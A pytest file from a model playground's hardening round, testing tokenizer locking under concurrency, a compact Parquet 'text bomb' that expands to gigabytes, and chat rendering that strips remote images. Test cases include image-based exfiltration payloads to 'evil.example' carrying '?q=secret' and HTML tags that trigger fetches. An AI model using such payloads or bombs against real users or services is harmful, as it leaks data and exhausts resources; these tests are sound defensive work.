"""Hardening, second round (engine side): shared tokenizers under one lock, the Parquet text bomb, the Hub-viewer
clause, a class behind one address, a fair queue, chat Markdown without remote images.

Each test here failed on the code before the fix it names.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from playground import limits
from tests.conftest import NSMC

ROOT = Path(__file__).resolve().parent.parent


def _long_text() -> str:
    """20,000 characters of real Korean reviews (a made-up text where the shared sample is missing)."""
    if NSMC.exists():
        lines = [line.split("\t")[1] for line in NSMC.read_text(encoding="utf-8").splitlines()[1:] if "\t" in line]
        text = "\n".join(f"{line}." for line in lines)
    else:
        text = "\n".join(f"이 영화는 {i}번째로 본 영화인데 정말 재미있었어요. The story was good." for i in range(600))
    return text[:20_000]


# -- F8: concurrent Summarize fails ----------------------------------------------------------------------------
def test_concurrent_long_summaries_translations_and_chats_never_fail(engine):
    """F8: token counting used the shared fast tokenizer outside ``runner.lock`` and reset its padding while
    another request tokenized a padded batch under it ("Unable to create tensor"). Eight threads at once, two
    rounds: long summaries (many chunks, many counts), translations and chats on the same models: 0 failures."""
    from playground.tasks import chat, summarize, translate

    text = _long_text()
    history = [{"role": "user", "content": text[:1500]}, {"role": "assistant", "content": text[1500:2500]}]
    jobs = {
        "summarize": lambda: summarize.summarize(engine, text, options={"length": "short"}),
        "translate": lambda: translate.translate(engine, text[:4_000], source="ko", target="en"),
        "chat": lambda: list(chat.stream_reply(engine, text[:300], history, sampling={"max_new_tokens": 8})),
    }
    for job in jobs.values():  # load each model once, outside the race
        job()
    failures: list[str] = []
    done: list[str] = []
    plan = ["summarize"] * 4 + ["translate"] * 2 + ["chat"] * 2

    def work(name: str, barrier: threading.Barrier) -> None:
        barrier.wait()
        try:
            jobs[name]()
            done.append(name)
        except Exception as exc:  # noqa: BLE001 - counted: the assertion shows them
            failures.append(f"{name}: {exc!r}"[:300])

    for _ in range(2):
        barrier = threading.Barrier(len(plan))
        threads = [threading.Thread(target=work, args=(name, barrier)) for name in plan]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=300)
        assert not any(thread.is_alive() for thread in threads)
    assert failures == []
    assert len(done) == 2 * len(plan)


def test_counting_never_breaks_another_requests_padded_batch(engine):
    """F8, the primitive: two threads count tokens of a long text while two run padded batches on the same runner
    (fixed counts, no clock). Before the fix a count reset the padding between another thread's "pad" and "encode"
    and about one batch in ten failed with "Unable to create tensor"."""
    from playground.tasks import seq2seq, summarize

    runner = engine.model(summarize.pick_model(engine, "요약할 글입니다. 한국어 문장."))
    text = _long_text()
    failures: list[str] = []
    barrier = threading.Barrier(4)

    def count() -> None:
        barrier.wait()
        for _ in range(150):
            try:
                runner.count_tokens(text[:5_000])
            except Exception as exc:  # noqa: BLE001 - counted
                failures.append(repr(exc)[:200])

    def batches() -> None:
        barrier.wait()
        for _ in range(60):
            try:
                seq2seq.run(runner, [text[:40], text[100:500], text[600:620]], seq2seq.Settings(max_new_tokens=1))
            except Exception as exc:  # noqa: BLE001 - counted
                failures.append(repr(exc)[:200])

    threads = [threading.Thread(target=f) for f in (count, count, batches, batches)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=300)
    assert failures == []


class _Spy:
    """A tokenizer stand-in that records, for each use, whether ``lock`` was held (tried from another thread)."""

    def __init__(self, tokenizer, lock, seen: list[tuple[str, bool]]) -> None:
        object.__setattr__(self, "_inner", tokenizer)
        object.__setattr__(self, "_lock", lock)
        object.__setattr__(self, "_seen", seen)

    def _held(self) -> bool:
        got: list[bool] = []

        def attempt() -> None:
            ok = self._lock.acquire(blocking=False)
            got.append(ok)
            if ok:
                self._lock.release()

        thread = threading.Thread(target=attempt)
        thread.start()
        thread.join()
        return not got[0]

    def __call__(self, *args, **kwargs):
        self._seen.append(("__call__", self._held()))
        return self._inner(*args, **kwargs)

    def __getattr__(self, name: str):
        value = getattr(self._inner, name)
        if name in ("decode", "batch_decode", "pad", "apply_chat_template", "encode"):
            def locked(*args, **kwargs):
                self._seen.append((name, self._held()))
                return value(*args, **kwargs)
            return locked
        return value

    def __setattr__(self, name: str, value) -> None:
        setattr(self._inner, name, value)


@pytest.mark.parametrize("task", ["summarize", "translate", "chat"])
def test_every_use_of_a_shared_tokenizer_holds_its_lock(engine, task):
    """F8, exhaustively: each call into the shared tokenizer (encode, pad, decode, chat template) during a summary,
    a translation and a chat reply happens under the model's one lock."""
    from playground.tasks import chat, summarize, translate

    text = _long_text()
    if task == "chat":
        model = engine.model(engine.resolve("chat", None))
        run = lambda: list(chat.stream_reply(engine, text[:200], [{"role": "user", "content": text[:500]},  # noqa: E731
                                                                   {"role": "assistant", "content": "네."}],
                                             sampling={"max_new_tokens": 6}))
    elif task == "summarize":
        model = engine.model(summarize.pick_model(engine, text))
        run = lambda: summarize.summarize(engine, text[:6_000], options={"length": "short"})  # noqa: E731
    else:
        model = engine.model(translate.pick_model(engine, "ko", "en"))
        run = lambda: translate.translate(engine, text[:800], source="ko", target="en")  # noqa: E731
    seen: list[tuple[str, bool]] = []
    original = model.tokenizer
    model.tokenizer = _Spy(original, model.lock, seen)
    try:
        run()
    finally:
        model.tokenizer = original
    assert seen, "the run used no tokenizer at all"
    assert [name for name, held in seen if not held] == []


# -- F3: a 2.7 KB Parquet file must not take gigabytes ---------------------------------------------------------
_BOMB_RUN = r"""
import json, sys
sys.path.insert(0, ".")
import duckdb  # noqa: F401 - imported before the baseline: only the work is measured
from playground.data import local
from playground.data.common import Query, make_query


def peak_mb():
    return int(open("/proc/self/status").read().split("VmHWM:")[1].split()[0]) // 1024


local.set_data_dir(sys.argv[1])
base = peak_mb()
info = local.local_info("bomb.parquet")
page = local.local_rows("bomb.parquet", None, 1, 100, Query())
found = local.local_rows("bomb.parquet", None, 1, 100, make_query("가나다", "label", ">", "3"))
stats = local.local_stats("bomb.parquet", None, Query(), "text", "text")
values = local.column_values("bomb.parquet", None, Query(), ["text"], 2_000)
print(json.dumps({"growth_mb": peak_mb() - base, "rows": info.num_rows, "cell": page.rows[0]["text"][-40:],
                  "cell_len": len(page.rows[0]["text"]), "stats_rows": stats.rows, "found": found.total,
                  "value_len": max(len(v[0]) for v in values)}))
"""


def test_a_parquet_text_bomb_stays_small(tmp_path):
    """F3: 50 rows of one 60 MB string, dictionary-encoded and zstd-compressed (a few KB on disk). Opening it,
    a page, a search, the statistics and a column's values: text cells are cut inside DuckDB (and DuckDB's late
    materialization, which sorted whole rows under a LIMIT, is off), so the process grows by less than 200 MB
    (before: 1.9 GB for a bomb of 20 × 20 MB, 9.5 GB in the issue) and the cell says how large it is."""
    pa = pytest.importorskip("pyarrow")
    pq = pytest.importorskip("pyarrow.parquet")
    big = "가나다라" * (60 * 2**20 // 12)
    column = pa.DictionaryArray.from_arrays(pa.array([0] * 50, pa.int32()), pa.array([big]))
    pq.write_table(pa.table({"text": column, "label": list(range(50))}), tmp_path / "bomb.parquet",
                   compression="zstd", use_dictionary=True)
    del big, column
    assert (tmp_path / "bomb.parquet").stat().st_size < 16_384
    done = subprocess.run([sys.executable, "-c", _BOMB_RUN, str(tmp_path)], cwd=ROOT, capture_output=True,
                          text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert result["rows"] == 50 and result["stats_rows"] == 50 and result["found"] == 46
    assert result["growth_mb"] < 200, result
    assert result["cell"].endswith("… [60.0 MB]")
    assert result["cell_len"] <= limits.DATASET_TEXT_CELL_BYTES
    assert result["value_len"] <= limits.DATASET_TEXT_CELL_BYTES // 4


def test_ordinary_text_cells_are_not_cut(tmp_path):
    """F3: cells under the cap come whole, in pages and in a column's values."""
    from playground.data import local
    from playground.data.common import Query

    (tmp_path / "small.csv").write_text("text,label\n" + "".join(f"리뷰 {i} 좋아요,{i % 2}\n" for i in range(30)),
                                        encoding="utf-8")
    local.set_data_dir(tmp_path)
    try:
        page = local.local_rows("small.csv", None, 1, 10, Query())
        assert page.rows[3]["text"] == "리뷰 3 좋아요"
        assert local.column_values("small.csv", None, Query(), ["text", "label"], 2)[1] == ("리뷰 1 좋아요", 1)
    finally:
        local.set_data_dir(None)


# -- chat Markdown draws no remote images --------------------------------------------------------------------
@pytest.mark.parametrize(("sent", "shown"), [
    ("![x](https://evil.example/p.png?q=secret)", "[x](https://evil.example/p.png?q=secret)"),
    ("see ![logo][1]\n\n[1]: https://evil.example/l.png", "see [logo][1]\n\n[1]: https://evil.example/l.png"),
    ('<img src="https://evil.example/a.png">', '<\u200bimg src="https://evil.example/a.png">'),
    ("<IMG/SRC=https://e.example/a>", "<\u200bIMG/SRC=https://e.example/a>"),
    ('<div style="background:url(https://e.example/b)">', '<\u200bdiv style="background:url(https://e.example/b)">'),
    ("a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)",
     "a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)"),
])
def test_chat_messages_fetch_nothing_when_drawn(sent, shown):
    """F11: an answer (or a history a client sends back) with Markdown or HTML images made every reader's browser
    fetch from any host. The Chatbot now gets images as links and fetching tags as text."""
    from tabs.chat import _messages, no_remote_images

    assert no_remote_images(sent) == shown
    assert _messages([{"role": "assistant", "content": sent}])[0]["content"] == shown


def test_a_streamed_answer_is_drawn_without_images(engine, monkeypatch):
    """F11 through the Chat tab's handler: every step it yields to the Chatbot has the images turned into links."""
    from playground.tasks import chat as chat_task
    from tabs import chat as chat_tab

    def answer(*args, **kwargs):
        for text in ("![a](https://evil.example/1.png)", "![a](https://evil.example/1.png) <img src=//e.example/2>"):
            yield chat_task.Reply(text, "tiny/chat", 0)

    monkeypatch.setattr(chat_task, "stream_reply", answer)
    monkeypatch.setattr(chat_task, "code_snippet", lambda *a, **k: "")
    steps = list(chat_tab.respond(engine, "![me](https://evil.example/me.png)", [], "", "", 0.7, 0.9, 16, 1.0))
    drawn = [m["content"] for conversation, *_ in steps for m in conversation]
    assert drawn and not any("![" in text or "<img" in text for text in drawn)
